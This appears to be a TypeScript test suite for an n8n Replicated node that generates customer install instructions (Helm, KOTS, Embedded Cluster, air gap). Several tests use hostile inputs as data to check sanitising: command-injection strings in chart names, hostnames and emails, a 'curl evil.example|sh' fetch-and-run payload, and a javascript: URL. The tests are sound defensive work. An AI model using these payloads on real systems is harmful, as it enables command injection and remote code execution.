import type { IBinaryKeyData, IDataObject } from 'n8n-workflow';

import { Replicated } from '../../nodes/Replicated/Replicated.node';
import type { HelmChart } from '../emulator/model';
import { useEmulator } from '../support/emulator-fixture';
import { binaryBytes } from '../support/n8n-engine';
import { shellArgs } from '../support/shell-args';

/** The shell commands of a Markdown answer, in order (the lines inside ```bash blocks). */
const commandsOf = (markdown: unknown) => {
	const lines: string[] = [];
	let inside = false;
	for (const line of String(markdown).split('\n')) {
		if (/^\s*```bash$/.test(line)) inside = true;
		else if (/^\s*```$/.test(line)) inside = false;
		else if (inside) lines.push(line.replace(/^ {3}/, ''));
	}
	return lines;
};

const chart = (name: string, weight = 0, more: Partial<HelmChart> = {}): HelmChart => ({
	name,
	version: '2.4.0',
	weight,
	error: '',
	hasPreflightSpec: false,
	isKotsInstallerOnly: false,
	...more,
});

/** An entry of the output's `helmCharts`. */
const listed = (
	name: string,
	included: boolean,
	reason: string | null = null,
	from: { version: string | null; source: 'channel' | 'option' } = {
		version: '2.4.0',
		source: 'channel',
	},
) => ({ name, ...from, included, reason });

/** The output's `omitted` when only Helm is left out. */
const helmOmitted = (reason: string) => [{ method: 'helm', reason }];

describe('Replicated node: License → Get Install Instructions', () => {
	const { emulator, context, appId } = useEmulator();
	const node = new Replicated();
	const runItem = async (options: IDataObject = {}, binary?: IBinaryKeyData) => {
		const ctx = context({
			items: [{ json: {}, ...(binary ? { binary } : {}) }],
			parameters: {
				resource: 'license',
				operation: 'installInstructions',
				customer: { __rl: true, mode: 'customId', value: 'crm-initrode' },
				options,
			},
		});
		const [[item]] = await node.execute.call(ctx);
		return { item, logs: ctx.logLines };
	};
	const run = async (options: IDataObject = {}) => (await runItem(options)).item.json;

	const stable = () => emulator().state.appChannels(appId())[0];
	const beta = () => emulator().state.appChannels(appId())[1];
	const addInitrode = (flags: Record<string, boolean>, channelId = beta().id) =>
		emulator().state.addCustomer({
			appId: appId(),
			name: 'Initrode',
			email: 'it@initrode.example',
			customId: 'crm-initrode',
			type: 'prod',
			channelIds: [channelId],
			flags,
		});
	const channelReads = () =>
		emulator()
			.requests.filter((r) => r.path.startsWith(`/v3/app/${appId()}/channel/`))
			.map((r) => `${r.method} ${r.path}`);

	it("builds the customer's instructions from its license, channel and the app's custom domains", async () => {
		emulator().state.addCustomHostname(appId(), 'registry', 'registry.acme.example');
		emulator().state.addCustomHostname(appId(), 'registry', 'registry2.acme.example');
		const customer = addInitrode({ isHelmInstallEnabled: true, airgap: true });
		const item = await run();
		expect(item).toMatchObject({
			customId: 'crm-initrode',
			customerId: customer.id,
			name: 'Initrode',
			email: 'it@initrode.example',
			app: { id: appId(), name: 'Acme Platform', slug: 'acme-platform' },
			channel: { name: 'Beta', slug: 'beta' },
			// `airgap` is the Replicated installers' air gap: Helm's has its own option.
			methods: ['helm'],
			omitted: [],
			hosts: {
				registry: 'registry.acme.example',
				replicatedApp: 'replicated.app',
				downloadPortal: 'get.replicated.com',
			},
			helmCharts: [listed('acme-platform', true)],
			airgap: { installers: false, helm: false, downloadPortalUrl: null, password: null },
		});
		expect(commandsOf(item.markdown)).toEqual([
			`helm registry login registry.acme.example --username it@initrode.example --password ${customer.installationId}`,
			'helm install acme-platform oci://registry.acme.example/acme-platform/beta/acme-platform',
		]);
		// The customer's channels carry the charts (SPEC reading): no other read than the app's.
		expect(
			emulator()
				.requests.filter((r) => r.path.startsWith('/v3/app/'))
				.map((r) => r.path)
				.sort(),
		).toEqual([`/v3/app/${appId()}`, `/v3/app/${appId()}/custom-hostnames`]);
	});

	describe("Helm: one install per chart of the channel's release (SPEC CustomerChannelWithDetail.chartReleases, the CLI's installCommand)", () => {
		const charts = () => [
			chart('acme-web', 10),
			chart('acme-db', -5),
			chart('acme-kots-extras', 0, { isKotsInstallerOnly: true }),
			chart('acme-api', 10),
		];

		it.each(['detail', 'summary'] as const)(
			"one registry login, then each Helm CLI chart by weight, named as the channel names it (customer's channels: %s)",
			async (reading) => {
				emulator().setReadings({ customerChannels: reading });
				beta().chartReleases = charts();
				const customer = addInitrode({ isHelmInstallEnabled: true });
				const item = await run();
				expect(item.methods).toEqual(['helm']);
				expect(commandsOf(item.markdown)).toEqual([
					`helm registry login registry.replicated.com --username it@initrode.example --password ${customer.installationId}`,
					'helm install acme-db oci://registry.replicated.com/acme-platform/beta/acme-db',
					'helm install acme-web oci://registry.replicated.com/acme-platform/beta/acme-web',
					'helm install acme-api oci://registry.replicated.com/acme-platform/beta/acme-api',
				]);
				expect(item.helmCharts).toEqual([
					listed('acme-db', true),
					listed(
						'acme-kots-extras',
						false,
						"only Replicated's installers deploy it (isKotsInstallerOnly)",
					),
					listed('acme-web', true),
					listed('acme-api', true),
				]);
				expect(item.markdown).toContain('2. Install the acme-db chart (1 of 3):');
				// The CLI's way when the customer's channels do not carry the charts: read the channel.
				expect(channelReads()).toEqual(
					reading === 'detail' ? [] : [`GET /v3/app/${appId()}/channel/${beta().id}`],
				);
			},
		);

		it('Stable leaves the channel out of the chart path, as the CLI does', async () => {
			stable().chartReleases = [chart('acme-api')];
			addInitrode({ isHelmInstallEnabled: true }, stable().id);
			expect(commandsOf((await run()).markdown)[1]).toBe(
				'helm install acme-api oci://registry.replicated.com/acme-platform/acme-api',
			);
		});

		it("withholds Helm when Replicated reports a chart's error (an install without it is incomplete); Helm Chart Name overrides", async () => {
			beta().chartReleases = [
				chart('acme-api'),
				chart('acme-db', 1, { error: 'Chart.yaml: version is required' }),
			];
			addInitrode({ isHelmInstallEnabled: true });
			const item = await run();
			expect(item.methods).toEqual([]);
			expect(item.omitted).toEqual(
				helmOmitted(
					'Replicated reports an error for chart "acme-db" of the Beta channel\'s release: promote a release whose charts Replicated reads without error, or set the Helm Chart Name option',
				),
			);
			expect(item.helmCharts).toEqual([
				listed('acme-api', false),
				listed('acme-db', false, 'Replicated reports an error: "Chart.yaml: version is required"'),
			]);

			const chosen = await run({ chartName: 'acme-bundle' });
			expect(chosen.methods).toEqual(['helm']);
			expect(commandsOf(chosen.markdown)[1]).toBe(
				'helm install acme-bundle oci://registry.replicated.com/acme-platform/beta/acme-bundle',
			);
			expect(chosen.helmCharts).toEqual([
				listed('acme-bundle', true, null, { version: null, source: 'option' }),
			]);
		});

		it('no Helm section for a channel with no Helm CLI chart, and `omitted` says what to set', async () => {
			beta().chartReleases = [chart('acme-kots-extras', 0, { isKotsInstallerOnly: true })];
			addInitrode({ isHelmInstallEnabled: true, isKotsInstallEnabled: true });
			const item = await run();
			expect(item.methods).toEqual(['kots']);
			expect(item.omitted).toEqual(
				helmOmitted(
					"no chart of the Beta channel's current release installs with the Helm CLI: promote a release with a Helm chart to Beta, or set the Helm Chart Name option",
				),
			);
			beta().chartReleases = [];
			expect((await run()).omitted).toEqual(item.omitted);
		});

		it('a chart name Helm would refuse is never put in a command', async () => {
			beta().chartReleases = [chart('acme-api; echo INJECTED')];
			addInitrode({ isHelmInstallEnabled: true });
			const item = await run();
			expect(item.methods).toEqual([]);
			expect(item.omitted).toEqual(
				helmOmitted(
					'chart "acme-api; echo INJECTED" of the Beta channel\'s release is not a name Helm accepts for a release: promote a release with valid chart names, or set the Helm Chart Name option',
				),
			);
			expect(item.markdown).not.toContain('INJECTED');
		});
	});

	describe("registry host: the channel's override, the app's default, the channel's replicatedRegistryDomain, then Replicated's (the CLI's registryHostname)", () => {
		const registryOf = async () => (await run()).hosts as { registry: string };

		it('each source in turn', async () => {
			addInitrode({ isHelmInstallEnabled: true });
			beta().replicatedRegistryDomain = '';
			expect((await registryOf()).registry).toBe('registry.replicated.com');
			beta().replicatedRegistryDomain = 'registry.vendor-team.example';
			expect((await registryOf()).registry).toBe('registry.vendor-team.example');
			emulator().state.addCustomHostname(appId(), 'registry', 'registry.acme.example');
			expect((await registryOf()).registry).toBe('registry.acme.example');
			beta().customHostnameOverrides = { registry: { hostname: 'beta-registry.acme.example' } };
			expect((await registryOf()).registry).toBe('beta-registry.acme.example');
		});

		it("the channel's details read from the channel when the customer's channels lack them", async () => {
			emulator().setReadings({ customerChannels: 'summary' });
			beta().replicatedRegistryDomain = 'registry.vendor-team.example';
			addInitrode({ isHelmInstallEnabled: true });
			expect((await registryOf()).registry).toBe('registry.vendor-team.example');
			beta().customHostnameOverrides = { registry: { hostname: 'beta-registry.acme.example' } };
			expect((await registryOf()).registry).toBe('beta-registry.acme.example');
		});

		it('a value that is not a host name is passed over, never put in a command', async () => {
			beta().customHostnameOverrides = {
				registry: { hostname: 'evil.example/x $(echo INJECTED)' },
			};
			beta().replicatedRegistryDomain = 'registry.vendor-team.example';
			addInitrode({ isHelmInstallEnabled: true });
			const item = await run();
			expect(item.hosts).toMatchObject({ registry: 'registry.vendor-team.example' });
			expect(item.markdown).not.toContain('INJECTED');
		});

		it("a channel's own domain wins over the app's default for the other services too", async () => {
			emulator().state.addCustomHostname(appId(), 'replicatedApp', 'updates.acme.example');
			beta().customHostnameOverrides = {
				replicatedApp: { hostname: 'beta-updates.acme.example' },
			};
			addInitrode({ isEmbeddedClusterDownloadEnabled: true });
			const item = await run();
			expect(item.methods).toEqual(['embeddedCluster']);
			expect(item.hosts).toMatchObject({ replicatedApp: 'beta-updates.acme.example' });
			expect(commandsOf(item.markdown)[0]).toBe(
				`curl -f https://beta-updates.acme.example/embedded/acme-platform/beta -H 'Authorization: ${emulator().state.customers.get(String(item.customerId))!.installationId}' -o acme-platform-beta.tgz`,
			);
		});

		it("a domain that is not the default is not used, as in the CLI: Replicated's host instead", async () => {
			emulator().state.addCustomHostname(appId(), 'registry', 'registry.acme.example').is_default =
				false;
			addInitrode({ isHelmInstallEnabled: true });
			expect((await registryOf()).registry).toBe('registry.replicated.com');
		});
	});

	describe('air gap: Helm\'s on isHelmAirgapEnabled, the Replicated installers\' on airgap (docs "Helm CLI Air Gap Instructions" is its own option)', () => {
		it("Helm air gap alone: the customer's Download Portal, and the password sent separately", async () => {
			const customer = addInitrode({ isHelmInstallEnabled: true, isHelmAirgapEnabled: true });
			const item = await run();
			expect(item.methods).toEqual(['helm', 'airgap']);
			expect(item.airgap).toEqual({
				installers: false,
				helm: true,
				downloadPortalUrl: customer.downloadPortalUrl,
				password: 'sentSeparately',
			});
			const airgap = String(item.markdown).split('## Air gap (no internet access)')[1];
			expect(airgap).toBe(
				[
					'',
					'',
					`1. For Helm, open your Download Portal: <${customer.downloadPortalUrl}>`,
					'2. Log in with the Download Portal password we send you separately. If it has not reached you, ask us for it.',
					"3. Helm: follow the portal's Helm air gap steps; they list the images to copy to your own registry.",
					'',
				].join('\n'),
			);
			expect(emulator().requests.some((r) => r.path.includes('/airgap/password'))).toBe(false);
		});

		it("the Replicated installers' air gap does not give Helm one", async () => {
			addInitrode({ isHelmInstallEnabled: true, airgap: true });
			const item = await run();
			expect(item.methods).toEqual(['helm']);
			expect(item.markdown).not.toContain('Air gap');
		});

		it('Embedded Cluster air gap: the bundle download (its URL quoted for the ?), no portal', async () => {
			const customer = addInitrode({ isEmbeddedClusterDownloadEnabled: true, airgap: true });
			const item = await run({ embeddedClusterVersion: 3 });
			expect(item.airgap).toEqual({
				installers: true,
				helm: false,
				downloadPortalUrl: null,
				password: null,
			});
			expect(commandsOf(item.markdown).slice(3)).toEqual([
				`curl -f 'https://replicated.app/embedded/acme-platform/beta?airgap=true' -H 'Authorization: ${customer.installationId}' -o acme-platform-beta.tgz`,
				'tar -xvzf acme-platform-beta.tgz',
				'sudo ./acme-platform install --license license.yaml --airgap',
			]);
		});

		it("KOTS air gap: the customer's own portal link; without one, the portal's host", async () => {
			const customer = addInitrode({ isKotsInstallEnabled: true, airgap: true });
			const item = await run();
			expect(item.airgap).toMatchObject({ installers: true, helm: false });
			expect(item.markdown).toContain(
				`1. For KOTS, open your Download Portal: <${customer.downloadPortalUrl}>`,
			);
			expect(item.markdown).toContain(
				"3. KOTS: download the air gap bundle there and follow the portal's KOTS air gap steps.",
			);
			customer.downloadPortalUrl = '';
			emulator().state.addCustomHostname(appId(), 'downloadPortal', 'portal.acme.example');
			expect((await run()).markdown).toContain(
				'1. For KOTS, open your Download Portal: <https://portal.acme.example>',
			);
			customer.downloadPortalUrl = 'javascript:alert(1)//https://x.example';
			const hostile = await run();
			expect(hostile.airgap).toMatchObject({ downloadPortalUrl: 'https://portal.acme.example' });
			expect(hostile.html).not.toContain('javascript:');
		});
	});

	describe('the Download Portal password (SPEC postAirgapPassword), only when asked: it resets the current one', () => {
		it('resets it and puts the new one in the instructions, never in a log', async () => {
			const customer = addInitrode({ isKotsInstallEnabled: true, airgap: true });
			const { item, logs } = await runItem({ resetAirgapPassword: true });
			const password = emulator().state.airgapPasswords.get(customer.id)!;
			expect(password).toEqual(expect.any(String));
			expect(
				emulator().requests.filter((r) => r.path === `/v3/customer/${customer.id}/airgap/password`),
			).toHaveLength(1);
			expect(item.json.airgap).toMatchObject({ password: 'included' });
			expect(item.json.markdown).toContain(
				`2. Log in with this password (it replaces any earlier one): \`${password}\``,
			);
			expect(item.json.html).toContain(`<code style="font-family:monospace">${password}</code>`);
			expect(logs.join('\n')).not.toContain(password);
			const { markdown, html, ...rest } = item.json;
			expect(JSON.stringify(rest)).not.toContain(password);
			expect([markdown, html].every((t) => String(t).includes(password))).toBe(true);
		});

		it('is left alone when no step needs the portal, and by default', async () => {
			const customer = addInitrode({
				isHelmInstallEnabled: true,
				isEmbeddedClusterDownloadEnabled: true,
				airgap: true,
			});
			// Air gap for Embedded Cluster only: its bundle comes with the license ID, not the portal.
			await run({ resetAirgapPassword: true });
			customer.isKotsInstallEnabled = true;
			expect((await run()).markdown).toContain('we send you separately');
			expect(emulator().requests.some((r) => r.path.includes('/airgap/password'))).toBe(false);
			expect(emulator().state.airgapPasswords.size).toBe(0);
		});

		it("a failed reset stops the item with Replicated's message, and no password", async () => {
			addInitrode({ isKotsInstallEnabled: true, airgap: true });
			emulator().faults.add({ status: 403, path: '/airgap/password' });
			// The emulator's 403 body says "upstream unavailable": the error carries Replicated's words.
			await expect(run({ resetAirgapPassword: true })).rejects.toThrow(
				/^Replicated: upstream unavailable/,
			);
		});
	});

	describe("the channel's own install commands, cross-checked, never pasted into the instructions (their content is undocumented: INFERRED)", () => {
		it("reports agreement with the channel's KOTS command and that its kURL one is not built here", async () => {
			addInitrode({ isKotsInstallEnabled: true, isEmbeddedClusterDownloadEnabled: true });
			expect((await run()).channelCommands).toEqual([
				{
					field: 'existingClusterInstallCommand',
					result: 'agrees',
					detail: 'kubectl kots install acme-platform/beta, as these instructions have it',
				},
				{
					field: 'embeddedClusterInstallCommand',
					result: 'unrecognised',
					detail: 'a kURL install (k8s.kurl.sh), which these instructions do not build',
				},
			]);
		});

		it('names the piece that differs: the registry host of a Helm command, the app and channel of an Embedded Cluster download', async () => {
			beta().installCommands = {
				existingCluster:
					'helm install acme-platform oci://registry.other.example/acme-platform/beta/acme-platform',
				embeddedCluster:
					'curl -f "https://replicated.app/embedded/acme-platform/unstable" -H "Authorization: $LICENSE_ID" -o acme.tgz',
			};
			addInitrode({ isHelmInstallEnabled: true, isEmbeddedClusterDownloadEnabled: true });
			expect((await run()).channelCommands).toEqual([
				{
					field: 'existingClusterInstallCommand',
					result: 'differs',
					detail:
						'registry host: the channel\'s command has "registry.other.example", these instructions "registry.replicated.com"',
				},
				{
					field: 'embeddedClusterInstallCommand',
					result: 'differs',
					detail:
						'app and channel: the channel\'s command has "/embedded/acme-platform/unstable", these instructions "/embedded/acme-platform/beta"',
				},
			]);
		});

		it('a hostile or huge command is only described, in bounded text, and never reaches the instructions', async () => {
			beta().installCommands = {
				existingCluster: 'kubectl kots install $(curl evil.example|sh)\n`reboot` <script>',
				embeddedCluster: 'x'.repeat(1_000_000),
			};
			addInitrode({ isKotsInstallEnabled: true, isEmbeddedClusterDownloadEnabled: true });
			const item = await run();
			expect(item.channelCommands).toEqual([
				{
					field: 'existingClusterInstallCommand',
					result: 'differs',
					detail:
						'app and channel: the channel\'s command has "$(curl", these instructions "acme-platform/beta"',
				},
				{
					field: 'embeddedClusterInstallCommand',
					result: 'unrecognised',
					detail: 'not a command these instructions recognise',
				},
			]);
			for (const text of [item.markdown, item.html])
				expect(String(text)).not.toMatch(/evil\.example|reboot|<script>|xxxx/);
		});
	});

	describe('every value that reaches a shell command is one word of it (POSIX quoting)', () => {
		it('plain values stay as Replicated shows them; hostile ones stay one argument each', async () => {
			const email = "o'neil $(echo INJECTED) `echo INJECTED`\n@initrode.example";
			const slug = "acme platform's";
			emulator().state.apps.get(appId())!.slug = slug;
			const customer = addInitrode({
				isHelmInstallEnabled: true,
				isEmbeddedClusterDownloadEnabled: true,
				isKotsInstallEnabled: true,
			});
			customer.email = email;
			const item = await run();
			const commands = commandsOf(item.markdown)
				.join('\n')
				.split(/\n(?=helm|curl|tar|sudo|kubectl)/)
				.filter((c) => c !== 'curl https://kots.io/install | bash');
			const lid = customer.installationId;
			expect(commands.map(shellArgs)).toEqual([
				[
					'helm',
					'registry',
					'login',
					'registry.replicated.com',
					'--username',
					email,
					'--password',
					lid,
				],
				[
					'helm',
					'install',
					'acme-platform',
					`oci://registry.replicated.com/${slug}/beta/acme-platform`,
				],
				[
					'curl',
					'-f',
					"https://replicated.app/embedded/acme%20platform's/beta",
					'-H',
					`Authorization: ${lid}`,
					'-o',
					'acme-platform-s-beta.tgz',
				],
				['tar', '-xvzf', 'acme-platform-s-beta.tgz'],
				['sudo', `./${slug}`, 'install', '--license', 'license.yaml'],
				['kubectl', 'kots', 'install', `${slug}/beta`, '--license-file', './license.yaml'],
			]);
			expect(commands[0]).toBe(
				`helm registry login registry.replicated.com --username 'o'\\''neil $(echo INJECTED) \`echo INJECTED\`\n@initrode.example' --password ${lid}`,
			);
			// The Markdown keeps a multi-line argument inside its code block; the HTML escapes it.
			expect(item.markdown).toContain(
				"   helm registry login registry.replicated.com --username 'o'\\''neil $(echo INJECTED) `echo INJECTED`\n   @initrode.example' --password",
			);
			expect(item.html).toContain(
				"--username &#39;o&#39;\\&#39;&#39;neil $(echo INJECTED) `echo INJECTED`\n@initrode.example&#39; --password",
			);
		});
	});

	describe('files', () => {
		it('adds the instructions as an HTML page file, for an email attachment or a CRM upload', async () => {
			addInitrode({ isHelmInstallEnabled: true });
			const { item } = await runItem({ asFile: 'html' });
			const file = item.binary!.instructions;
			expect(file).toMatchObject({ fileName: 'install-acme-platform.html', mimeType: 'text/html' });
			const page = (await binaryBytes(file)).toString('utf8');
			expect(
				page.startsWith(
					'<!DOCTYPE html>\n<html lang="en">\n<head><meta charset="utf-8"><title>Installing Acme Platform</title></head>',
				),
			).toBe(true);
			expect(page).toContain(String(item.json.html).trimEnd());
			expect(page.endsWith('</body>\n</html>\n')).toBe(true);
		});

		it('adds the Markdown as a file in the named field, keeping the files already on the item', async () => {
			addInitrode({ isKotsInstallEnabled: true });
			const license = {
				data: Buffer.from('apiVersion: kots.io/v1beta1').toString('base64'),
				mimeType: 'text/yaml',
				fileName: 'license.yaml',
			};
			const { item } = await runItem(
				{ asFile: 'markdown', binaryPropertyName: 'howto' },
				{ license },
			);
			expect(Object.keys(item.binary!).sort()).toEqual(['howto', 'license']);
			expect(item.binary!.howto).toMatchObject({
				fileName: 'install-acme-platform.md',
				mimeType: 'text/markdown',
			});
			expect((await binaryBytes(item.binary!.howto)).toString('utf8')).toBe(item.json.markdown);
			expect(await binaryBytes(item.binary!.license)).toEqual(
				Buffer.from('apiVersion: kots.io/v1beta1'),
			);
		});

		it('outputs no file unless asked', async () => {
			addInitrode({ isKotsInstallEnabled: true });
			expect((await runItem()).item.binary).toBeUndefined();
		});
	});

	it('says why Helm is missing when the customer has no email', async () => {
		const customer = addInitrode({ isHelmInstallEnabled: true, isKotsInstallEnabled: true });
		customer.email = '';
		const item = await run();
		expect(item.methods).toEqual(['kots']);
		expect(item.omitted).toEqual(
			helmOmitted(
				"the customer has no email address, which the registry login needs: set the customer's email",
			),
		);
		expect(item.helmCharts).toEqual([listed('acme-platform', false)]);
		// Helm not asked for: no chart is listed at all.
		expect((await run({ only: ['kots'] })).helmCharts).toEqual([]);
	});
});
